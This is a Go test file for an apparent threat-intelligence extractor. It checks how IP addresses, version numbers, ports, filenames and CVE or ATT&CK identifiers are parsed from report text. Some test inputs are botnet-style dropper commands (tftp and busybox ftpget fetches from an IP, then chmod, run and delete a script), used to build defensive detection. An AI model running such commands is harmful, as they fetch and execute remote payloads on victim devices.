package extract_test

import (
	"strings"
	"testing"

	"github.com/portent-cti/portent/internal/intel"
)

func TestNumbersBehindAProductAreItsVersion(t *testing.T) {
	checkAside(t, "", map[string]string{
		"They used WinRAR 5.91.0.0 and PuTTYgen 0.70.0.0": "ipv4:5.91.0.0 version number; ipv4:0.70.0.0 version number",
		"7-Zip 9.20.1.0":                       "ipv4:9.20.1.0 version number",
		"runs Java 1.8.0.202":                  "ipv4:1.8.0.202 version number",
		"a Gateway ADC 13.1.49.13":             "ipv4:13.1.49.13 version number",
		"pip install evil==1.2.3.4":            "ipv4:1.2.3.4 version number",
		"wildcard 0.0.15.255":                  "ipv4:0.0.15.255 netmask",
		"Nightbell 5.9.0.246":                  "", // malware, and where it was
		"Norway 5.2.12.34":                     "",
		"Blocked 5.2.12.34 and From 5.2.12.35": "",
		"Attackers at 6.7.8.9 scanned for it":  "",
		"We blocked 5.8.9.10 and 5.8.9.11":     "",
		"evil-c.com<45.134.21.99>":             "",
	})
}

func TestPortsAreNoPartsOfAddresses(t *testing.T) {
	checkLive(t, "", map[string]string{
		"45.134.21.98 port 443, 91.92.240.7 port 8080": "ipv4:45.134.21.98 ipv4:91.92.240.7 port:443/tcp port:8080/tcp",
		"port 4444; 45.134.21.98":                      "ipv4:45.134.21.98 port:4444/tcp",
		"port 4444, 45-134-21-98.evil.net":             "domain:45-134-21-98.evil.net port:4444/tcp",
		"45.134.21.98(port 443), 45.134.21.99(RU)":     "ipv4:45.134.21.98 ipv4:45.134.21.99 port:443/tcp",
		"ports 80, 443 and 8080":                       "port:443/tcp port:80/tcp port:8080/tcp",
	})
}

func TestScriptsInCommandLinesAreFiles(t *testing.T) {
	checkLive(t, "", map[string]string{
		"chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh": "filename:bins.sh",
		"cd /tmp; tftp 45.134.21.98 -c get t.sh":        "filename:t.sh ipv4:45.134.21.98",
		"busybox ftpget -v 45.134.21.98 f.sh g.sh":      "filename:f.sh filename:g.sh ipv4:45.134.21.98",
		"the domain evil-w.sh is theirs":                "domain:evil-w.sh",
	})
}

func TestWhatClosesALetterBeginsItsSignature(t *testing.T) {
	const who = "Alice\nACME Security | www.acme-sec.com | alice@acme-sec.com"
	for _, c := range []struct {
		genre intel.Genre
		text  string
		aside bool
	}{
		{intel.Mail, "seen\n\nBest regards,\n" + who, true},
		{intel.Report, "seen\r\nMit freundlichen Grüßen\r\n" + who, true},
		{intel.Mail, "Thanks!\n" + who, true},
		{intel.Report, "Thanks!\n" + who, false},
		{intel.Mail, "Best regards,\n" + who + strings.Repeat("\nevil.com is one more", 10), false},
		{intel.Mail, "Regards to all who helped.\n" + who, false},
	} {
		for _, o := range scanner(t).Observations(intel.Document{Genre: c.genre, Text: c.text}) {
			if (o.Suppressed != "") != c.aside {
				t.Errorf("%s %q: %v is set aside for %q", c.genre, c.text, o.Entity, o.Suppressed)
			}
		}
	}
	for _, o := range scanner(t).Observations(intel.Document{Genre: intel.Mail, Author: "alice@acme-sec.com", Text: "see www.acme-sec.com"}) {
		if o.Suppressed == "" {
			t.Errorf("%v is the sender's and no indicator", o.Entity)
		}
	}
}

func TestAddressesAreNoVersionsAndVersionsNoAddresses(t *testing.T) {
	checkLive(t, "", map[string]string{
		"Users should upgrade. The C2 is 45.142.212.100.":                        "ipv4:45.142.212.100",
		"Mitigation: upgrade it.\n\nIndicators of compromise\n\nIP: 5.142.12.10": "ipv4:5.142.12.10",
		"The bot upgraded itself from 45.142.212.100.":                           "ipv4:45.142.212.100",
		"The landing page 91.92.250.70/login was down.":                          "ipv4:91.92.250.70 url:http://91.92.250.70/login",
		"item 5.188.206.14": "ipv4:5.188.206.14",
		"for outside:45.142.212.100/22 (45.142.212.101/8), 45.142.212.0/24": "cidr:45.142.212.0/24 ipv4:45.142.212.100 ipv4:45.142.212.101",
		"45.142.212.100\n5.8.16.7":                                                        "ipv4:45.142.212.100 ipv4:5.8.16.7",
		"- 5.8.9.10\n- 1.9.7.2\n- 2.1.3.9":                                                "ipv4:1.9.7.2 ipv4:2.1.3.9 ipv4:5.8.9.10",
		"5.8.16.7 (RU), 5.2.70.14 (NL)":                                                   "ipv4:5.2.70.14 ipv4:5.8.16.7",
		"evil-one.top (5.2.70.14), evil-two.top [5.8.16.7]":                               "domain:evil-one.top domain:evil-two.top ipv4:5.2.70.14 ipv4:5.8.16.7",
		"5.8.16.7\tRU\t2099-03-11\tseen":                                                  "ipv4:5.8.16.7",
		"5.8.16.7 AS9009 M247 RO":                                                         "asn:AS9009 ipv4:5.8.16.7",
		"2099-03-12 5.8.16.7 scanning, attacker: 5.8.16.8; deny 5.8.16.9, Tor 5.2.70.14":  "ipv4:5.2.70.14 ipv4:5.8.16.7 ipv4:5.8.16.8 ipv4:5.8.16.9",
		"We blocked 5.8.9.10, 5.8.9.11 and 5.8.9.12.":                                     "ipv4:5.8.9.10 ipv4:5.8.9.11 ipv4:5.8.9.12",
		"The package version 1.2.3 contacts 5.8.9.10.":                                    "ipv4:5.8.9.10",
		"45.9.148.108/185.10.68.147":                                                      "ipv4:185.10.68.147 ipv4:45.9.148.108",
		"dl.pixelnotes.cc/img.pixelnotes.cc":                                              "domain:dl.pixelnotes.cc domain:img.pixelnotes.cc",
		"45.142.212.100:80/443/8080":                                                      "ipv4:45.142.212.100 port:443/tcp port:80/tcp port:8080/tcp",
		"from 45.134.21.98 port 51515 ssh2; source port 51515; to 45.134.21.99 port 4444": "ipv4:45.134.21.98 ipv4:45.134.21.99 port:4444/tcp",
	})
	for _, text := range []string{"Please upgrade to 7.2.41.33 now", "see page 4.2.1.3", "they ran TeamViewer 15.42.9.1", "FileZilla 3.60.2.1.", "app 5.2.13.48 is vulnerable", "USG FLEX 5.36.2.1",
		"linker 14.0.24.215", "agent v. 5.61.33.12", "prior to 5.61.33.13", "up to and including 5.61.33.12", "<version>5.61.33.14</version>", "version range 5.61.33.12 - 5.61.33.15", "прошивка 5.61.33.14",
		"固件5.61.33.13", "影响范围：5.61.33.0 <= x < 5.61.33.13"} {
		for _, o := range observations(t, text) {
			if o.Entity.Kind == intel.IPv4 && o.Suppressed == "" || o.Entity.Kind == intel.CIDR {
				t.Errorf("%q: %v is a version", text, o.Entity)
			}
		}
	}
}

func TestIdentifiersThatShareAYearOrALineAreAllRead(t *testing.T) {
	checkLive(t, "", map[string]string{
		"CVE-2099-3400/CVE-2099-21887/CVE-2099-46805":                   "vulnerability:CVE-2099-21887 vulnerability:CVE-2099-3400 vulnerability:CVE-2099-46805",
		"CVE-2099-34473/34523/31207":                                    "vulnerability:CVE-2099-31207 vulnerability:CVE-2099-34473 vulnerability:CVE-2099-34523",
		"CVE-2099-26855, 26857, 26858 and 27065 were used":              "vulnerability:CVE-2099-26855 vulnerability:CVE-2099-26857 vulnerability:CVE-2099-26858 vulnerability:CVE-2099-27065",
		"CVE-2099-26855 / 26857, CVE-2099-20198 and -20273":             "vulnerability:CVE-2099-20198 vulnerability:CVE-2099-20273 vulnerability:CVE-2099-26855 vulnerability:CVE-2099-26857",
		"CVE-2099-44228, 10000 servers, CVE-2099-44229 and 20000 hosts": "vulnerability:CVE-2099-44228 vulnerability:CVE-2099-44229",
		"CVE-2099-0601_poc.py exploit-CVE-2099-0602":                    "filename:cve-2099-0601_poc.py vulnerability:CVE-2099-0601 vulnerability:CVE-2099-0602",
		"T1190/T1133 (T1071/T1573) T1059/001 CWE-79/CWE-89":             "technique:T1059.001 technique:T1071 technique:T1133 technique:T1190 technique:T1573 weakness:CWE-79 weakness:CWE-89",
	})
}
